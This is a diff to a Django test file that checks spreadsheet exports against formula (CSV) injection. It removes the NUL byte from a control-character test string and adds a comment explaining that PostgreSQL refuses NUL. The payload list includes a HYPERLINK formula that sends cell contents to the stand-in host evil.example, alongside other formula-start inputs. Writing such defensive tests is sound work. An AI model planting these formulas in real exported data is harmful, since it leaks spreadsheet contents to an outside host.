@@ -19,7 +19,8 @@ pytestmark = pytest.mark.django_db
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
             "\r=1+1"]
-CONTROLS = "Mắm\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x1b\x7f\x80\x85\x9f tôm"
+# PostgreSQL cannot store NUL at all (it is refused at the database), so stored names carry every other control
+CONTROLS = "Mắm\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x1b\x7f\x80\x85\x9f tôm"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 DAY = dt.date.today() - dt.timedelta(days=30)
 
